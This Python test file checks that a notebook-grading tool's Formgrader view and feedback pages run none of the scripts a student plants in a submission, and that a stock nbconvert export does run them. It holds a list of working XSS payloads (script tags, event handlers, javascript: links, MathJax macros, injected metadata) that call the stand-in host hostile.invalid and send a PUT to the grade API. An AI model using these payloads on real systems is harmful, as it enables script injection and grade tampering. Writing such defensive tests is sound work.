"""A submission full of scripts, opened in Formgrader and as feedback: nothing of it runs."""

from __future__ import annotations

import json
import sys
from collections.abc import Callable
from contextlib import AbstractContextManager
from pathlib import Path

import browser_watch
import pytest
from nbconvert.exporters import HTMLExporter
from nbformat.v4 import new_code_cell, new_notebook, new_output
from playwright.sync_api import Page, expect

from paybuild import notebooks
from paybuild.grading import Course, hand_in

SLOW_MS = 90_000
TOKEN = "token-of-a-test"
# What each script does where it runs: it leaves a sign, calls home, and raises its own grade.
EVIL = (
    "top.pwned=1;fetch('http://hostile.invalid/x').catch(()=>0);"
    "fetch('/formgrader/api/grade/1',{method:'PUT',body:'{}'}).catch(()=>0)"
)
PIECES = [
    f"<script>{EVIL}</script>",
    f'<img src="x" onerror="{EVIL}">',
    f'<svg onload="{EVIL}"><animate onbegin="{EVIL}" attributeName="x" dur="1s"/></svg>',
    f'<iframe srcdoc="&lt;script&gt;{EVIL}&lt;/script&gt;"></iframe>',
    f'<details open ontoggle="{EVIL}"><summary>more</summary></details>',
    f'<video><source onerror="{EVIL}"></video>',
    f'<input autofocus onfocus="{EVIL}">',
    f'<a class="link" href="javascript:{EVIL}">link</a>',
    f'<math><a xlink:href="javascript:{EVIL}">m</a></math>',
    '<meta http-equiv="refresh" content="0;url=http://hostile.invalid/">',
    '<base href="http://hostile.invalid/"><link rel="stylesheet" href="x.css">',
    '<style>@import "http://hostile.invalid/s.css"; main, body { display: none }</style>',
    '<img src="http://hostile.invalid/pixel.png" alt="pixel">',
    '<form action="http://hostile.invalid/"><button>send</button></form>',
    f"</textarea></pre></div><script>{EVIL}</script>",
]
# Math is rendered by MathJax, which has macros that make links and load code.
MATH = f"$\\href{{javascript:{EVIL}}}{{x}} \\require{{html}} \\unicode{{x3c}}script>{EVIL}$"
SHOW = f"""
from IPython.display import HTML, SVG, Javascript, Latex, Markdown, display
pieces = {PIECES!r}
for piece in pieces:
    display(HTML(piece), Markdown(piece), Latex(piece))
    print(piece)
display(Javascript({EVIL!r}), Latex({MATH!r}), Markdown({MATH!r}))
display(SVG('<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><script>{EVIL}</script></svg>'))
display({{'image/png': '"><script>{EVIL}</script>', 'text/plain': 'p'}}, raw=True)
display({{'application/vnd.jupyter.widget-view+json': {{'model_id': '"><script>{EVIL}</script>'}},
         'text/html': pieces[0], 'text/plain': 'p'}}, raw=True)
gap = 0.5
raise type({PIECES[0]!r}, (Exception,), {{}})(pieces[1])
"""  # noqa: E501 - a line of SVG
WRITTEN = '''
# %% [markdown] nbgrader={"grade_id": "u9_q2_verdict", "grade": true, "solution": true, "points": 3}
"""
Write your verdict here.
"""
'''


@pytest.fixture
def course(tiny_course: Path) -> Path:
    """Return the tiny course with one graded submission, all of whose parts hold scripts."""
    with (tiny_course / "course" / "u9_tiny" / "exercise.py").open("a", encoding="utf-8") as file:
        file.write(WRITTEN)
    notebooks.build_all(tiny_course, tiny_course)
    graded = Course(tiny_course, settings=tiny_course)
    graded.register("u9_tiny", tiny_course / "release")
    place = tiny_course / "submitted" / "mallory" / "u9_tiny"
    answers = {"u9_q1_gap": SHOW, "u9_q2_verdict": "\n\n".join([*PIECES, MATH])}
    hand_in(tiny_course / "release" / "u9_tiny", place, answers)
    _spoil_metadata(place / "u9_tiny.ipynb")
    assert graded.autograde("u9_tiny", "mallory") == ""
    assert graded.feedback("u9_tiny", "mallory") == ""
    return tiny_course


def _spoil_metadata(path: Path) -> None:
    """Put scripts where a page would take a title, tags and kinds of pictures from."""
    plain = json.loads(path.read_text(encoding="utf-8"))
    plain["metadata"]["title"] = f"</title>{PIECES[0]}"
    for cell in plain["cells"]:
        cell["metadata"]["tags"] = [f'">{PIECES[0]}']
        if cell["cell_type"] == "markdown":
            cell["attachments"] = {"a": {f'image/png">{PIECES[0]}': "AAAA"}}
    raw = {"cell_type": "raw", "id": "raw", "source": PIECES[0]}
    plain["cells"].append({**raw, "metadata": {"raw_mimetype": "text/html"}})
    path.write_text(json.dumps(plain), encoding="utf-8")


class Watch:
    """What a page does that no page of a submission may do."""

    def __init__(self, page: Page) -> None:
        self.seen: list[str] = []
        page.on("dialog", lambda dialog: self.seen.append(f"dialog: {dialog.message}"))
        page.on("request", lambda request: self._look(request.method, request.url))

    def _look(self, method: str, url: str) -> None:
        if "hostile" in url or method not in ("GET", "HEAD"):
            self.seen.append(f"{method} {url}")


def settle(page: Page) -> None:
    """Wait until whatever the page starts by itself has started."""
    page.wait_for_load_state("networkidle")
    # Two frames later handlers of loading, toggling and animation would have been called.
    page.evaluate("new Promise(r => requestAnimationFrame(() => requestAnimationFrame(r)))")


@pytest.mark.needs("chromium")
def test_scripts_of_a_submission_run_neither_in_formgrader_nor_in_feedback(
    course: Path,
    page: Page,
    served: Callable[[list[str], Path, Path], AbstractContextManager[str]],
) -> None:
    command = [sys.executable, "-m", "jupyter", "lab", f"--ServerApp.root_dir={course}"]
    with served(command, course, course / "home") as url:
        page.goto(f"{url}/lab?token={TOKEN}")
        page.goto(f"{url}/formgrader/gradebook/u9_tiny/u9_tiny")
        link = page.locator("td.name a", has_text="Submission #1")
        link.wait_for(timeout=SLOW_MS)
        watch = Watch(page)
        link.click(timeout=SLOW_MS)
        page.locator("input.score#u9_q2_verdict").wait_for(timeout=SLOW_MS)
        settle(page)
        expect(page.locator("body")).to_contain_text("gap = 0.5")
        assert page.evaluate("window.pwned") is None
        assert page.locator('[href^="javascript" i]').count() == 0
        assert watch.seen == []
    feedback = course / "feedback" / "mallory" / "u9_tiny" / "u9_tiny.html"
    watch = Watch(page)
    page.goto(feedback.as_uri())
    settle(page)
    expect(page.locator("main")).to_contain_text("points")
    assert page.evaluate("window.pwned") is None
    assert page.locator('[href^="javascript" i]').count() == 0
    assert watch.seen == []


@pytest.mark.needs("chromium")
def test_the_same_scripts_run_where_nothing_cleans_them(
    page: Page, watch: browser_watch.Watch, tmp_path: Path
) -> None:
    shown = [new_output("display_data", data={"text/html": piece}) for piece in PIECES[:2]]
    notebook = new_notebook(cells=[new_code_cell("show()", outputs=shown)])
    stock, _ = HTMLExporter().from_notebook_node(notebook)
    file = tmp_path / "stock.html"
    file.write_text(stock, encoding="utf-8")
    page.goto(file.as_uri(), wait_until="commit")
    page.wait_for_function("window.pwned === 1", timeout=SLOW_MS)
    page.goto("about:blank")
    assert any("hostile.invalid" in seen for seen in watch.problems)
    watch.problems.clear()
